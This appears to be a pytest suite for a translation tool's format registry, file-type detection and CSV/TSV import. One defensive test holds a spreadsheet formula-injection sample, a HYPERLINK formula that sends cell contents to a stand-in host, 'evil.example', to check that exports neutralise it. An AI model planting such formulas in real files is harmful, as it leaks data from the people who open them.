"""The format registry: its records, recognising a file's format, and the CSV/TSV readers."""

from __future__ import annotations

import csv
import importlib
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import run_cli
from tests.formats.conftest import Exporter
from workbench.cli.export import export as export_command
from workbench.errors import InputError, WorkbenchError
from workbench.formats import (
    EXPORT_FORMATS,
    FINDINGS,
    FORMATS,
    IMPORT_FORMATS,
    Format,
    detect,
    get_format,
    is_bilingual,
)
from workbench.formats.table import read_csv, read_tsv
from workbench.project import Project
from workbench.tui.screens.importer import ImportRequest, describe, run_import


def test_every_record_names_a_real_writer_and_reader() -> None:
    assert len({f.name for f in FORMATS}) == len(FORMATS)
    for spec in FORMATS:
        module, _, name = spec.write_with.partition(":")
        assert spec.writer is getattr(importlib.import_module(module), name)
        assert spec.findings in FINDINGS
        assert spec.importable == (spec.reader is not None) == bool(spec.extensions)
    assert IMPORT_FORMATS == ("tmx", "xliff", "xliff2", "csv", "tsv")
    assert [f.name for f in FORMATS if f.shows_terms] == ["docx", "html"]
    assert {f.name: f.findings for f in FORMATS if f.findings != "none"} == {
        "xliff": "glossary", "xliff2": "glossary", "docx": "all", "html": "all",
    }


def test_a_record_refuses_contradictions() -> None:
    with pytest.raises(ValueError, match="does not carry"):
        Format("x", "x", "X", ".x", "m:f", findings="all")
    with pytest.raises(ValueError, match="findings"):
        Format("x", "x", "X", ".x", "m:f", carries_findings=True, findings="some")
    with pytest.raises(ValueError, match="lower case"):
        Format("x", "x", "X", ".x", "m:f", extensions=(".X",))
    with pytest.raises(ValueError, match="no reader"):
        get_format("docx").read("file.docx")


def test_the_cli_offers_the_registrys_formats() -> None:
    choices = {p.name: getattr(p.type, "choices", None) for p in export_command.params}
    assert tuple(choices["fmt"]) == EXPORT_FORMATS
    assert tuple(choices["findings"]) == FINDINGS


def test_listing_the_formats_loads_no_writer() -> None:
    code = (
        "import sys, workbench.formats as f; assert f.EXPORT_FORMATS; "
        "print(sorted(m for m in ('docx', 'lxml', 'workbench.formats.docx') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


# recognising a file -----------------------------------------------------------------------------


def test_xml_is_recognised_by_its_root_whatever_its_name(export: Exporter, tmp_path: Path) -> None:
    for fmt in ("tmx", "xliff", "xliff2"):
        renamed = tmp_path / f"{fmt}.dat"
        renamed.write_bytes(export(fmt).read_bytes())
        assert detect(renamed).name == fmt
        assert is_bilingual(renamed)
    xliff2_as_xlf = tmp_path / "two.xlf"
    xliff2_as_xlf.write_bytes(export("xliff2").read_bytes())
    assert detect(xliff2_as_xlf).name == "xliff2"
    assert detect(xliff2_as_xlf, ["xliff", "xliff2"]).name == "xliff2"


def test_other_files_are_recognised_by_their_name(export: Exporter, tmp_path: Path) -> None:
    assert detect(export("csv")).name == "csv"
    assert detect(export("tsv")).name == "tsv"
    plain = tmp_path / "english.txt"
    plain.write_text("The English.\n", encoding="utf-8")
    assert not is_bilingual(plain)
    assert not is_bilingual(tmp_path / "absent.xlf")
    with pytest.raises(InputError, match=r"english.txt: not a TMX, XLIFF, CSV or TSV file "
                                         r"\(neither XML nor a file ending in \.tmx, \.xlf"):
        detect(plain)
    binary = tmp_path / "bin.dat"  # import-csv's question: XML is none of its formats
    binary.write_bytes(b"\x00\x01\x02")
    with pytest.raises(InputError, match=r"bin.dat: not a CSV or TSV file \(a file ending in "
                                         r"\.csv, \.tsv, \.txt\)"):
        detect(binary, among=["csv", "tsv"])


@pytest.mark.parametrize("among", [["csv", "tsv"], None])
def test_a_review_saved_as_a_workbook_is_said_to_be_one(
    tmp_path: Path, among: list[str] | None
) -> None:
    """The reviewed CSV saved as Excel's own .xlsx (its default), given to import-csv or the
    TUI's import: told to save it as CSV, as the same workbook named .csv is (it was "not a CSV
    or TSV file (a file ending in .csv, .tsv)", as if any text would do)."""
    import zipfile

    book = tmp_path / "review.xlsx"
    with zipfile.ZipFile(book, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(InputError, match=r"review.xlsx: a spreadsheet \(XLSX or ODS\), not "
                                         r"text: save it as CSV"):
        detect(book, among=among)


@pytest.mark.parametrize(
    ("content", "among", "message"),
    [
        ('<tmx version="1.4"><body/></tmx>', ["xliff", "xliff2"],
         r"not an XLIFF file \(root element <tmx>: TMX 1.4b translation memory\)"),
        ('<xliff version="2.0"/>', ["tmx"], r"not a TMX file \(root element <xliff>: XLIFF 2.0\)"),
        ('<xliff version="3.0"/>', None, r"XLIFF version '3' is not supported"),
        ("<html><body/></html>", None, r"not a TMX, XLIFF, CSV or TSV file \(root element <html>"),
        ('<!DOCTYPE tmx [<!ENTITY x "y">]>\n<tmx version="1.4"/>', None, "declares an entity"),
        ("<tmx version=", None, "line 1: not well-formed XML"),
        ('<txml locale="ar" targetlocale="en"/>', ["xliff", "xliff2"],
         r"root element <txml>: a Wordfast Pro TXML file, which `workbench import` reads as a "
         "document"),
    ],
)
def test_a_file_of_another_kind_is_refused_with_its_name(
    tmp_path: Path, content: str, among: list[str] | None, message: str
) -> None:
    path = tmp_path / "file.xml"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=message) as caught:
        detect(path, among)
    assert str(caught.value).startswith(str(path))


def test_a_missing_file_is_named(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"absent\.tmx: no such file"):
        detect(tmp_path / "absent.tmx")


# the CSV and TSV readers ----------------------------------------------------------------------


def _csv(tmp_path: Path, text: str, name: str = "edited.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_csv_reader_takes_columns_by_name_and_keeps_text_exactly(tmp_path: Path) -> None:
    path = _csv(tmp_path, (
        "Status,English,notes,Arabic\n"
        'approved,"Two lines,\nand a ""quote""",x,قالَ العُمّالُ؛\n'
        "\n"
        ",The second.,,الثانية\n"
    ))
    units = read_csv(path).units
    assert [(u.key, u.source, u.target, u.status, u.line) for u in units] == [
        (None, "قالَ العُمّالُ؛", 'Two lines,\nand a "quote"', "approved", 2),
        (None, "الثانية", "The second.", None, 5),
    ]


def test_a_csv_saved_with_semicolons_is_read(tmp_path: Path) -> None:
    """Excel saves "CSV" with semicolons where the decimal mark is a comma (French, German,
    Arabic locales): it was refused, 'the header names no arabic or english column'."""
    path = _csv(tmp_path, 'id;paragraph;arabic;english;status\n'
                          '1;1;قال، ثم مضى؛;"He spoke; then, he left.";draft\n')
    (unit,) = read_csv(path).units
    assert (unit.key, unit.source, unit.target) == ("1", "قال، ثم مضى؛", "He spoke; then, he left.")


def test_a_table_is_read_by_the_separator_of_its_header_whatever_its_name(
    tmp_path: Path,
) -> None:
    """A spreadsheet's tab-separated file saved as .csv, a CSV saved as .tsv: both were
    refused, 'the header names no arabic or english column', when it named both."""
    tabs = _csv(tmp_path, 'id\tparagraph\tarabic\tenglish\tstatus\n'
                          '1\t1\tقال، ثم مضى\t"He said ""no"", then left."\tdraft\n'
                          '2\t1\tنص\tA line\\nbreak, escaped.\tdraft\n')
    assert [(u.key, u.source, u.target) for u in read_csv(tabs).units] == [
        ("1", "قال، ثم مضى", 'He said "no", then left.'), ("2", "نص", "A line\nbreak, escaped.")]
    commas = tmp_path / "saved.tsv"
    commas.write_text('id,arabic,english\n1,"قال، ثم مضى","He spoke, then left."\n',
                      encoding="utf-8")
    (unit,) = read_tsv(commas).units
    assert (unit.key, unit.source, unit.target) == ("1", "قال، ثم مضى", "He spoke, then left.")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("id,arabic\n1,نص\n", r"line 1: the header names no english column"),
        ("arabic,english\nنص,text,extra\n", r"line 2: 3 fields, but the header has 2"),
        ("arabic,english,status\nنص,a,\n\nنص,b,done\n", r"line 4: unknown status 'done'"),
        ('arabic,english\n"نص\nعلى سطرين",a\n ,b\n', r"line 4: empty Arabic"),
        ("arabic,english\nنص\n", r"line 2: 1 field, but the header has 2"),
        # a quote left open on line 2 runs the row on to line 4, where the reader fails
        ('arabic,english\nنص,"a\nنص,b\nنص,"c"d\n',
         r"line 2: not well-formed CSV: the quoted cell that starts on this line runs on to "
         r"line 4, where it fails \(.*\): a quote that is not closed\?"),
        ('arabic,english\nنص,a\nنص,"b\nنص,c\n',
         r"line 3: not well-formed CSV: a quoted cell that starts on this line is not closed "
         r"before the end of the file \(line 4\)"),
    ],
)
def test_csv_reader_names_the_bad_line(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(InputError, match=message):
        read_csv(_csv(tmp_path, text))


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back(
    export: Exporter, project: Project
) -> None:
    """=HYPERLINK(…), +, -, @ at a cell's start get an apostrophe (a spreadsheet shows the
    text instead of running a formula); reading takes it off: the texts come back exactly."""
    texts = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-5 degrees", "@home",
             "'=already quoted", "+1 more", "it's fine"]
    for sid, text in enumerate(texts, start=1):
        project.save_draft(sid, text)
    path = export("csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert [r[3] for r in rows[1:7]] == [
        "'" + t if t[0] in "=+-@'" and t != "it's fine" else t for t in texts]
    assert [u.target for u in read_csv(path).units[:6]] == texts
    report = project.import_bilingual(path)
    assert report.updated == [] and report.added == []


def test_a_csv_export_a_spreadsheet_saved_as_unicode_text_loses_its_apostrophes(
    export: Exporter, project: Project, tmp_path: Path
) -> None:
    """Our CSV opened in a spreadsheet (LibreOffice keeps the apostrophe before ``-5 degrees``
    as text) and saved as tab-separated Unicode Text (UTF-16, Excel's "Unicode Text"), which
    import-csv reads: the apostrophes come off as from the CSV (they stayed: "'-5 degrees"
    written into the English); our own TSV, plain UTF-8, keeps a leading one as it is."""
    texts = ["-5 degrees", "@home", "'=already quoted", "it's fine"]
    for sid, text in enumerate(texts, start=1):
        project.save_draft(sid, text)
    rows = list(csv.reader(io.StringIO(export("csv").read_text(encoding="utf-8-sig"))))
    saved = tmp_path / "review.txt"
    with saved.open("w", encoding="utf-16", newline="") as out:
        csv.writer(out, delimiter="\t", lineterminator="\r\n").writerows(rows)
    assert [u.target for u in read_tsv(saved).units[:4]] == texts
    assert [u.target for u in read_tsv(export("tsv")).units[:4]] == texts


def test_tsv_reader_reads_what_the_tsv_writer_wrote(export: Exporter, project: Project) -> None:
    project.confirm(2, "With\ta tab and a \"quote\".")
    units = read_tsv(export("tsv")).units
    assert len(units) == 21 and units[1].target == 'With\ta tab and a "quote".'
    assert [u.key for u in units] == [str(s.id) for s in project.segments(limit=100)]


def test_a_tsv_saved_with_every_text_cell_quoted_is_read(tmp_path: Path) -> None:
    """LibreOffice's "quote all text cells": the quotes are off, "" is one quote; a row of
    our own TSV, whose id is never quoted, keeps a sentence that is a quotation as it is."""
    path = tmp_path / "saved.tsv"
    path.write_text('"id"\t"arabic"\t"english"\n"1"\t"نص"\t"He said ""yes""."\n'
                    '2\tنص آخر\t"Today, there\'s neither."\n', encoding="utf-8")
    units = read_tsv(path).units
    assert [(u.key, u.source, u.target) for u in units] == [
        ("1", "نص", 'He said "yes".'), ("2", "نص آخر", '"Today, there\'s neither."')]


def test_a_tsv_whose_quoted_cells_hold_tabs_and_line_breaks_is_read(tmp_path: Path) -> None:
    """Excel's "Unicode Text" quotes a cell holding a tab or a line break, which then spans
    fields or lines: it was refused ("line 2: unknown status 'no'")."""
    path = tmp_path / "excel.txt"
    path.write_text('id\tarabic\tenglish\tstatus\n'
                    '1\tنص\t"He said:\tno."\tdraft\n'
                    '2\tنص آخر\t"Two\nlines, ""quoted"""\tdraft\n'
                    '3\tثالث\t"""Yes,"" he said."\tdraft\n', encoding="utf-16")
    units = read_tsv(path).units
    assert [(u.key, u.target, u.line) for u in units] == [
        ("1", "He said:\tno.", 2), ("2", 'Two\nlines, "quoted"', 3),
        ("3", '"Yes," he said.', 5)]


def test_a_tsv_saved_by_libreoffice_is_read_without_its_quoting(tmp_path: Path) -> None:
    """As LibreOffice saves our TSV (checked with soffice --convert-to): with "quote all text
    cells" the numbers stay unquoted; by default only a cell holding a quote is quoted. Both
    were imported with their quotes ('"This claim is ""utterly"" false."' became the English,
    or the quoted status was refused)."""
    all_text = tmp_path / "all.tsv"
    all_text.write_text('"id"\t"paragraph"\t"arabic"\t"english"\t"status"\n'
                        '1\t1\t"نص"\t"This claim is ""utterly"" false."\t"draft"\n',
                        encoding="utf-8")
    default = tmp_path / "default.tsv"
    default.write_text('id\tparagraph\tarabic\tenglish\tstatus\n'
                       '1\t1\tنص\t"This claim is ""utterly"" false."\tdraft\n'
                       '2\t1\tنص آخر\t"Yes," he said, "no."\tdraft\n', encoding="utf-8")
    for path in (all_text, default):
        first = read_tsv(path).units[0]
        assert (first.key, first.target, first.status) == (
            "1", 'This claim is "utterly" false.', "draft")
    assert read_tsv(default).units[1].target == '"Yes," he said, "no."'  # our own TSV's text


def test_a_spreadsheet_edit_comes_back_by_its_arabic(project: Project, tmp_path: Path) -> None:
    """A CSV made elsewhere (no ids, other column order) is matched by its Arabic."""
    first, second = project.segments(limit=2)
    path = _csv(
        tmp_path, f"english,arabic\nFixed by a reviewer.,{first.source}\n,{second.source}\n"
    )
    report = project.import_bilingual(path)
    assert (report.format, report.matched_by_source, report.updated) == ("csv", 2, [first.id])
    assert project.segment(first.id).target == "Fixed by a reviewer."
    assert project.segment(first.id).status == "translated"
    assert project.segment(second.id).target == second.target  # empty English: left alone
    assert project.history(first.id)[-1].action == "import-csv"


def test_import_csv_takes_excels_unicode_text_as_saved_txt(
    in_tmp: Path, sample_db: Path
) -> None:
    """Excel saves "Unicode Text" (a tab-separated table, UTF-16) as .txt: import-csv read
    it as the README says (it was refused: "not a CSV or TSV file"); a .txt is still no table
    to the commands of other formats, nor a bilingual file to the TUI's import."""
    db = ["--db", str(sample_db)]
    run_cli("export", "--format", "tsv", "--output", "ours.tsv", *db)
    rows = [line.split("\t") for line in Path("ours.tsv").read_text("utf-8").splitlines()]
    rows[1][3] = 'Critics call it, "in short",\ta coup.'
    buffer = io.StringIO()
    csv.writer(buffer, delimiter="\t", lineterminator="\r\n").writerows(rows)
    Path("excel.txt").write_text(buffer.getvalue(), encoding="utf-16")
    result = run_cli("import-csv", "excel.txt", "--format", "json", *db)
    assert result.exit_code == 0, result.stderr
    report = json.loads(result.stdout)
    assert (report["format"], len(report["updated"])) == ("tsv", 1)
    result = run_cli("history", str(report["updated"][0]), "--format", "json", *db)
    assert json.loads(result.stdout)[-1]["new_text"] == 'Critics call it, "in short",\ta coup.'
    result = run_cli("import-xliff", "excel.txt", *db)
    assert result.exit_code == 2 and "not an XLIFF file" in result.stderr
    assert not is_bilingual(Path("excel.txt"))


def test_the_import_commands_take_only_their_kind(in_tmp: Path, sample_db: Path) -> None:
    db = ["--db", str(sample_db)]
    run_cli("export", "--format", "xliff2", "--output", "two.xlf", *db)
    run_cli("export", "--format", "csv", "--output", "table.csv", *db)
    result = run_cli("import-xliff", "two.xlf", "--format", "json", *db)
    assert result.exit_code == 0 and '"format": "xliff2"' in result.stdout
    result = run_cli("import-tmx", "two.xlf", *db)
    assert result.exit_code == 2 and "not a TMX file (root element <xliff>" in result.stderr
    result = run_cli("import-xliff", "table.csv", *db)
    assert result.exit_code == 2 and "table.csv: not an XLIFF file (neither XML" in result.stderr


# the TUI's import dialog dispatches through the registry ---------------------------------------


def test_the_import_dialog_brings_a_bilingual_file_back(export: Exporter, project: Project) -> None:
    path = export("xliff")
    words = project.segment(1).target.split()[:3]  # edited in the file
    text = path.read_text(encoding="utf-8")
    assert " ".join(words) in text
    path.write_text(text.replace(" ".join(words), "Changed", 1), encoding="utf-8")
    with pytest.raises(WorkbenchError, match="XLIFF files go back into the working version"):
        run_import(project, ImportRequest("translation", path, "sample", "reference"))
    report = run_import(project, ImportRequest("translation", path, "sample", "working"))
    assert report.updated == [1]
    assert describe(report).plain == (
        "Brought back sample.xliff into 'sample' (working): 1 updated, 0 added, 20 left alone."
    )


def test_the_import_dialog_shows_a_round_trips_warnings(export: Exporter, project: Project) -> None:
    """A unit that matches no segment (its Arabic edited in another tool) is said in the
    dialog's line, as the command line prints it (the dialog said nothing of it)."""
    path = export("xliff")
    source = project.segment(2).source
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(source, source + " زيادة", 1), encoding="utf-8")
    report = run_import(project, ImportRequest("translation", path, "sample", "working"))
    assert report.unmatched == 1 and report.warnings
    said = describe(report).plain
    assert ", 1 unit matched no segment." in said  # not "1 units"
    assert said.endswith(f" Warning: {report.warnings[0]}.")


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_a_joined_units_edit_comes_back_from_a_table(tmp_path: Path, fmt: str) -> None:
    """A unit of two segments (one link, id ``1_2``) edited in a spreadsheet: the edit goes to
    its first segment, the other stays empty, and the report counts one update."""
    with Project.open(tmp_path / "mm.db", create=True, author="tester") as project:
        project.import_document_text(
            "الجملة الأولى قصيرة. والثانية أيضا قصيرة جدا.\nهذه فقرة ثانية فيها جملة.", "doc")
        project.import_translation_text(
            "The first sentence is short and the second one is also very short.\n"
            "This is a second paragraph.", "doc", "working")
        path = project.export_file(fmt, tmp_path / f"t.{fmt}").path
        sep = "," if fmt == "csv" else "\t"
        lines = path.read_text(encoding="utf-8-sig").splitlines()
        assert lines[1].startswith(f"1_2{sep}")
        lines[1] = lines[1].replace("The first sentence is short", "The first one is short")
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        report = project.import_bilingual(path)
        assert (report.updated, report.added, report.unmatched) == ([1], [], 0)
        assert project.segment(1).target.startswith("The first one is short")
        assert project.segment(2).target == ""

